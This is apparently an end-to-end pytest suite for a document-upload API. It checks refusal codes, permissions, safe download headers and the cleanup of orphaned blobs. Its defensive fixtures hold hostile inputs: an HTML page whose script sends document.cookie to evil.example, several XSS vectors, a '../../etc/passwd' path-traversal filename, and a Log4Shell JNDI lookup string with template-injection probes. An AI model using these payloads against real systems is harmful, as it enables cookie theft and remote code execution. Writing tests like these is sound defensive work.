"""Uploads end to end: a real uvicorn process (its own PostgreSQL database, Redis, blob store),
real HTTP multipart requests and a real WebSocket, and the issue's list of bad input.

Each refusal is checked with its code and with nothing left behind: the rows of documents,
runs, run events and workspace events (count and digest) and the blob directory's files are the
same before and after. The runs that accepted files start are let finish before a snapshot, so
the snapshot only moves when something was written by the request under test.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pypdf
import pytest
from strawberry import relay

from services.blobs import blob_store
from tests.e2e.test_api_e2e import JWT_SECRET, _other_redis_db
from tests.support.app_fixtures import blob_files
from tests.support.corpus import BZIP2_PDF, POSTGRES_README_MD, VENV_HTML, encrypted, read
from tests.support.databases import fresh_database
from tests.support.graphql import GraphQLClient, sign_up
from tests.support.live_server import REPO_ROOT, live_server
from tests.support.uploads import corpus_file, post_upload, upload, watch_uploads
from tests.support.waiting import eventually

pytestmark = [pytest.mark.timeout(900), pytest.mark.slow(seconds=70)]

TABLES = ("documents", "runs", "run_events", "workspace_events")
MiB = 1024 * 1024
HOSTILE_HTML = b"""<!DOCTYPE html><html><head><title>Offer</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('loaded')"><h1 onclick="alert(2)">Quarterly offer</h1>
<p>Read the <a href="javascript:alert(3)">terms</a> before you sign.</p>
<img src=x onerror="alert(4)"><iframe srcdoc="<script>alert(5)</script>"></iframe>
<svg><script>alert(6)</script></svg><p>The offer ends on Friday.</p></body></html>"""
LATIN1_TEXT = "Olá, mundo! Você está aqui. Isto é um texto em português.\n".encode("latin-1") * 5


@pytest.fixture(scope="module")
def upload_database(postgres_url: str) -> Iterator[str]:
    with fresh_database(postgres_url, "e2e_upload") as url:
        yield url


@pytest.fixture(scope="module")
def blobs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("blobs")


def server_env(database_url: str, redis_url: str, blobs: Path) -> dict[str, str]:
    return {
        "RUN_EXECUTION": "inline",
        # Uploads, not ingestion, are under test here: the runs meet no model (a closed port, no
        # retries) and end at EMBEDDING with MODEL_UNAVAILABLE once their text is stored. The
        # user flow analyst_uploads_mixed_batch ingests with the model to READY.
        "OLLAMA_HOST": "http://127.0.0.1:9",
        "LLM_MAX_RETRIES": "0",
        "APP_ENV": "test",
        "DATABASE_URL": database_url,
        "REDIS_URL": _other_redis_db(redis_url),
        "JWT_SECRET": JWT_SECRET,
        # Every client is 127.0.0.1 and a server outlives a test; the limit has its own test.
        "SIGN_UP_ATTEMPTS_PER_ADDRESS": "1000/hour",
        "BLOB_ROOT": str(blobs),
        # The local model on a shared 2-core machine can be slow to answer; a slow answer is
        # not what these tests are about (MODEL_UNAVAILABLE has its own tests).
        "LLM_TIMEOUT_SECONDS": "300",
        # Each execution of a run is bounded by this too (600 s by default).
        "WORKFLOW_EXECUTION_TIMEOUT_SECONDS": "3000",
        "LOG_LEVEL": "WARNING",
    }


@pytest.fixture(scope="module")
def server(upload_database: str, redis_url: str, blobs: Path) -> Iterator[str]:
    with live_server(server_env(upload_database, redis_url, blobs), start_timeout=120) as url:
        yield url


@pytest.fixture
async def http(server: str) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=server, timeout=120) as client:
        yield client


@pytest.fixture
def ws_url(server: str) -> str:
    return server.replace("http://", "ws://", 1) + "/graphql"


async def snapshot(database_url: str) -> dict[str, tuple[int, str | None]]:
    connection = await asyncpg.connect(database_url)
    try:
        return {
            table: tuple(
                await connection.fetchrow(
                    "SELECT count(*), md5(string_agg(t::text, '|' ORDER BY t::text)) "
                    f"FROM {table} t"
                )
            )
            for table in TABLES
        }
    finally:
        await connection.close()


async def runs_settled(database_url: str) -> None:
    """Until no run is QUEUED or RUNNING (what accepted files started has ended)."""

    async def settled() -> bool:
        connection = await asyncpg.connect(database_url)
        try:
            busy = await connection.fetchval(
                "SELECT count(*) FROM runs WHERE status IN ('QUEUED', 'RUNNING')"
            )
        finally:
            await connection.close()
        return busy == 0

    await eventually(settled, within=600, what="every run to end", every=0.2)


async def document_row(database_url: str, document_id: uuid.UUID) -> dict[str, Any]:
    connection = await asyncpg.connect(database_url)
    try:
        row = await connection.fetchrow("SELECT * FROM documents WHERE id = $1", document_id)
    finally:
        await connection.close()
    return dict(row)


async def team(http: httpx.AsyncClient, prefix: str) -> dict[str, Any]:
    """An owner with a collection, a VIEWER of the same workspace, and an outsider with a
    collection of their own."""
    client = GraphQLClient(http)
    tag = uuid.uuid4().hex[:8]
    owner = await sign_up(client, "Ana Analyst", f"{prefix}-owner-{tag}@example.com")
    viewer = await sign_up(client, "Rita Reader", f"{prefix}-viewer-{tag}@example.com")
    outsider = await sign_up(client, "Otto Outsider", f"{prefix}-out-{tag}@example.com")
    shell = await client.op("AppShell", token=owner["accessToken"])
    workspace = shell["workspaces"]["edges"][0]["node"]["id"]
    invited = await client.op(
        "InviteMember",
        {
            "input": {
                "workspaceId": workspace,
                "email": f"{prefix}-viewer-{tag}@example.com",
                "role": "VIEWER",
            }
        },
        token=owner["accessToken"],
    )
    invite = invited["inviteMember"]["inviteLink"].rsplit("/", 1)[1]
    await client.op("AcceptInvite", {"input": {"token": invite}}, token=viewer["accessToken"])

    async def collection(token: str, workspace_id: str, name: str) -> str:
        created = await client.op(
            "CreateCollection",
            {"input": {"workspaceId": workspace_id, "name": name}},
            token=token,
        )
        return str(created["createCollection"]["collection"]["id"])

    other_shell = await client.op("AppShell", token=outsider["accessToken"])
    other_workspace = other_shell["workspaces"]["edges"][0]["node"]["id"]
    return {
        "client": client,
        "workspace": workspace,
        "owner": owner["accessToken"],
        "viewer": viewer["accessToken"],
        "outsider": outsider["accessToken"],
        "collection": await collection(owner["accessToken"], workspace, "Inbox"),
        "foreign_collection": await collection(outsider["accessToken"], other_workspace, "Private"),
    }


def truncated_pdf() -> bytes:
    pdf = read(BZIP2_PDF)
    return pdf[: len(pdf) // 3]


def encrypted_pdf() -> bytes:
    """A real PDF, encrypted by pypdf with a user password."""
    return encrypted(read(BZIP2_PDF), user_password="open sesame")


async def test_bad_input_is_refused_with_its_code_and_nothing_left_behind(
    http: httpx.AsyncClient, upload_database: str, blobs: Path
):
    people = await team(http, "refused")
    owner, collection = people["owner"], people["collection"]
    await runs_settled(upload_database)
    before = await snapshot(upload_database), blob_files(blobs)

    one_by_one = await upload(
        http,
        collection,
        [
            ("empty.txt", b""),
            ("scan.pdf", read(Path("/usr/share/doc/python3.11-doc/html/_images/logging_flow.png"))),
            ("huge.txt", b"All work and no play makes Jack a dull boy.\n" * (21 * MiB // 44)),
            ("garbage.txt", bytes(range(128, 256)) * 4),
            ("cut.pdf", truncated_pdf()),
            ("locked.pdf", encrypted_pdf()),
        ],
        token=owner,
    )
    assert one_by_one["errors"] == []
    assert [(f["fileName"], f["error"]) for f in one_by_one["files"]] == [
        ("empty.txt", {"code": "EMPTY_FILE", "message": "The file is empty.", "field": "files.0"}),
        (
            "scan.pdf",
            {
                "code": "UNSUPPORTED_TYPE",
                "message": "This is not a PDF, HTML, Markdown or text file.",
                "field": "files.1",
            },
        ),
        (
            "huge.txt",
            {
                "code": "FILE_TOO_LARGE",
                "message": "The file is larger than the limit of 20,971,520 bytes.",
                "field": "files.2",
            },
        ),
        (
            "garbage.txt",
            {
                "code": "UNDECODABLE_TEXT",
                "message": "The text is in no character encoding that could be recognised. "
                "(ISO-8859-5)",
                "field": "files.3",
            },
        ),
        (
            "cut.pdf",
            {
                "code": "PDF_BROKEN",
                "message": "The PDF is damaged or incomplete. "
                "(it ends before its end-of-file marker)",
                "field": "files.4",
            },
        ),
        (
            "locked.pdf",
            {
                "code": "PDF_ENCRYPTED",
                "message": "The PDF is protected by a password.",
                "field": "files.5",
            },
        ),
    ]
    assert all(f["document"] is None and f["run"] is None for f in one_by_one["files"])

    notes = [(f"note {i}.txt", f"A note, number {i}.\n".encode()) for i in range(21)]
    too_many = await upload(http, collection, notes, token=owner)
    assert too_many == {
        "files": None,
        "errors": [
            {
                "code": "TOO_MANY_FILES",
                "message": "Upload at most 20 files at a time; this request has 21.",
                "field": "files",
            }
        ],
    }
    page = ("venv.html", read(VENV_HTML))
    foreign = await upload(http, people["foreign_collection"], [page], token=owner)
    missing = await upload(
        http, relay.to_base64("Collection", str(uuid.uuid4())), [page], token=owner
    )
    assert (
        foreign
        == missing
        == {
            "files": None,
            "errors": [
                {"code": "NOT_FOUND", "message": "No such collection.", "field": "collectionId"}
            ],
        }
    )
    denied = await upload(http, collection, [page], token=people["viewer"])
    assert denied["errors"] == [
        {
            "code": "FORBIDDEN",
            "message": "This needs the EDITOR role or higher; you are VIEWER.",
            "field": None,
        }
    ]
    unsigned = await post_upload(http, collection, [page], token=None)
    assert unsigned.json()["data"]["uploadDocuments"] == {
        "files": None,
        "errors": [{"code": "UNAUTHENTICATED", "message": "Sign in to do this.", "field": None}],
    }
    no_preflight = await post_upload(http, collection, [page], token=owner, preflight=False)
    assert no_preflight.status_code == 400
    assert no_preflight.json()["errors"][0]["extensions"]["code"] == "PREFLIGHT_REQUIRED"
    assert (await snapshot(upload_database), blob_files(blobs)) == before


async def test_hostile_but_acceptable_input_is_stored_inert_and_verbatim(
    http: httpx.AsyncClient, upload_database: str, blobs: Path, ws_url: str
):
    people = await team(http, "hostile")
    owner, collection, client = people["owner"], people["collection"], people["client"]
    long_name = "a" * 300 + ".md"
    payload = await upload(
        http,
        collection,
        [
            ("offer.html", HOSTILE_HTML),
            ("portugues.txt", LATIN1_TEXT),
            ("../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
            (long_name, b"# A long name\n\nIts [text](https://example.com) is short.\n"),
        ],
        token=owner,
    )
    files = payload["files"]
    assert [f["error"] for f in files] == [None] * 4
    names = [f["document"]["originalFilename"] for f in files]
    assert names[2] == "../../etc/passwd"  # kept for display, never a path
    assert names[3] == "a" * 252 + ".md" and len(names[3]) == 255
    assert [f["document"]["title"] for f in files[:4]] == [
        "offer",
        "portugues",
        "passwd",
        "a" * 252,
    ]
    pasted = (
        await client.op(
            "CreateTextDocument",
            {
                "input": {
                    "collectionId": collection,
                    "title": "${jndi:ldap://evil.example/a} #{7*7} {{7*7}}",
                    "text": "Value: ${env:HOME} and ${sys:user.name}\n",
                }
            },
            token=owner,
        )
    )["createTextDocument"]
    assert pasted["errors"] == []
    assert pasted["document"]["title"] == "${jndi:ldap://evil.example/a} #{7*7} {{7*7}}"
    ids = [f["document"]["id"] for f in files] + [pasted["document"]["id"]]

    # The upload screen watches every file on one subscription to its end.
    rows = await watch_uploads(ws_url, owner, people["workspace"], ids)
    final = {r["documentId"]: r for r in rows if r["done"]}
    assert set(final) == set(ids)

    html = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[0])[1]))
    assert html["text"] is not None
    for active in ("<script", "alert(", "onload", "onclick", "onerror", "javascript:", "<"):
        assert active not in html["text"]
    assert "Quarterly offer" in html["text"] and "The offer ends on Friday." in html["text"]
    latin = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[1])[1]))
    assert latin["text"].startswith("Olá, mundo! Você está aqui.")
    text = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[4])[1]))
    assert text["title"] == "${jndi:ldap://evil.example/a} #{7*7} {{7*7}}"
    assert text["text"].strip() == "Value: ${env:HOME} and ${sys:user.name}"

    # The hostile page is only ever served as an attachment, as stored.
    answer = await http.get(files[0]["document"]["downloadUrl"], headers=_bearer(owner))
    assert answer.content == HOSTILE_HTML
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["content-security-policy"] == (
        "default-src 'none'; sandbox; frame-ancestors 'none'"
    )
    assert answer.headers["x-content-type-options"] == "nosniff"


def _bearer(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


async def test_the_download_route(http: httpx.AsyncClient, upload_database: str):
    people = await team(http, "download")
    owner, viewer, collection = people["owner"], people["viewer"], people["collection"]
    pdf = read(BZIP2_PDF)
    payload = await upload(http, collection, [("bzip2 manual (v1.0.8).pdf", pdf)], token=owner)
    url = payload["files"][0]["document"]["downloadUrl"]

    answer = await http.get(url, headers=_bearer(viewer))  # a VIEWER may download
    assert answer.status_code == 200
    assert answer.content == pdf
    assert {k: v for k, v in answer.headers.items() if k not in ("date", "server")} == {
        "content-type": "application/pdf",
        "content-length": str(len(pdf)),
        "content-disposition": 'attachment; filename="bzip2 manual (v1.0.8).pdf"; '
        "filename*=UTF-8''bzip2%20manual%20%28v1.0.8%29.pdf",
        "x-content-type-options": "nosniff",
        "content-security-policy": "default-src 'none'; sandbox; frame-ancestors 'none'",
        "cache-control": "private, no-store",
        "cross-origin-resource-policy": "same-origin",
        "referrer-policy": "no-referrer",
        "vary": "Origin",
    }
    assert pypdf.PdfReader(io.BytesIO(answer.content)).pages  # the real file came back

    missing_url = f"/documents/{relay.to_base64('Document', str(uuid.uuid4()))}/original"
    other = await http.get(url, headers=_bearer(people["outsider"]))
    missing = await http.get(missing_url, headers=_bearer(viewer))
    for refused in (other, missing):
        assert refused.status_code == 404
        assert refused.headers["content-type"] == "application/json"
        [error] = refused.json()["errors"]
        assert (error["message"], error["extensions"]["code"]) == ("No such document.", "NOT_FOUND")
    anonymous = await http.get(url)
    assert anonymous.status_code == 401
    assert anonymous.headers["www-authenticate"] == "Bearer"
    assert anonymous.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"

    # A download link (createDownloadLink): a plain GET with no header, from a fresh client.
    link = await GraphQLClient(http).op(
        "CreateDownloadLink",
        {"input": {"id": payload["files"][0]["document"]["id"]}},
        token=viewer,
    )
    assert link["createDownloadLink"]["errors"] == []
    async with httpx.AsyncClient(base_url=str(http.base_url), timeout=30) as browser:
        followed = await browser.get(link["createDownloadLink"]["url"])
    assert followed.status_code == 200 and followed.content == pdf
    assert followed.headers["content-disposition"] == answer.headers["content-disposition"]
    await runs_settled(upload_database)


@pytest.fixture
def sweep_database(postgres_url: str) -> Iterator[str]:
    with fresh_database(postgres_url, "e2e_sweep") as url:
        yield url


async def test_an_api_process_sweeps_what_a_crashed_upload_left_when_it_starts(
    sweep_database: str, redis_url: str, tmp_path: Path
):
    """A blob written by an upload whose transaction never committed, and a write cut off long
    ago, are gone once a new API process has started; the blob of a document stays, and so
    does a temporary file young enough to be another process's write in progress."""
    blobs = tmp_path / "blobs"
    env = server_env(sweep_database, redis_url, blobs)
    with live_server(env, start_timeout=120) as base_url:
        async with httpx.AsyncClient(base_url=base_url, timeout=120) as http:
            people = await team(http, "sweep")
            payload = await upload(
                http, people["collection"], [corpus_file(VENV_HTML)], token=people["owner"]
            )
        await runs_settled(sweep_database)
    kept = hashlib.sha256(read(VENV_HTML)).hexdigest()
    # What the process would have left had it been killed mid-upload, written as the
    # store's writer writes: the blob of a document never committed, and a partial write.
    orphan = await blob_store(str(blobs)).put(read(POSTGRES_README_MD))
    abandoned, in_progress = (
        blobs / orphan[:2] / ".tmp-abandoned",
        blobs / kept[:2] / ".tmp-new",
    )
    for path, age in ((abandoned, 5400), (in_progress, 0)):
        path.write_bytes(b"%PDF-1.4")
        os.utime(path, (time.time() - age, time.time() - age))
    assert len(blob_files(blobs)) == 4

    with live_server(env, start_timeout=120) as base_url:
        expected = sorted([f"{kept[:2]}/{kept}", f"{kept[:2]}/.tmp-new"])
        await eventually(
            lambda: blob_files(blobs) == expected, within=60, what="the sweep at start"
        )
        async with httpx.AsyncClient(base_url=base_url, timeout=120) as http:
            url = payload["files"][0]["document"]["downloadUrl"]
            answer = await http.get(url, headers=_bearer(people["owner"]))
        assert (answer.status_code, answer.content) == (200, read(VENV_HTML))
    # An operator's sweep between starts (cron): the same, from the command line.
    orphan = await blob_store(str(blobs)).put(read(BZIP2_PDF))
    swept = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "app", "sweep-blobs"],
        cwd=REPO_ROOT,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert (swept.returncode, swept.stdout) == (
        0,
        "released 1 unreferenced blobs, removed 0 abandoned temporary files\n",
    ), swept.stderr
    assert blob_files(blobs) == expected
